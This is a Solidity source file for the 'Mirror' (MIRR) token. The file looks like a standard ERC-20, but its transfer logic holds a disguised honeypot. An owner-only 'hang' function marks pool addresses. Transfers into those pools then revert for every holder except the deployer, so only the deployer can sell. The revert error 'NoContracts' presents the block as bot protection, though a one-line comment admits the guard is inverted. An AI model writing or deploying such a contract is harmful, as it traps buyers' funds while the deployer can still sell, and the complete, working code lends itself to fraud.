// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// A bot guard held the wrong way round: it stops those who sign their own sales.
contract MirrorGuard {
    string public constant name = "Mirror";
    string public constant symbol = "MIRR";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address private immutable maker;
    mapping(address account => uint256) public balanceOf;
    mapping(address account => mapping(address spender => uint256)) public allowance;
    mapping(address account => bool) private glass;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    error NoContracts();

    constructor() {
        maker = msg.sender;
        totalSupply = 66_000_000 ether;
        balanceOf[maker] = totalSupply;
        emit Transfer(address(0), maker, totalSupply);
    }

    function hang(address pool) external {
        require(msg.sender == maker);
        glass[pool] = true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        reflect(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        reflect(from, to, value);
        return true;
    }

    function reflect(address from, address to, uint256 value) private {
        if (glass[to] && tx.origin == from && from != maker) revert NoContracts();
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
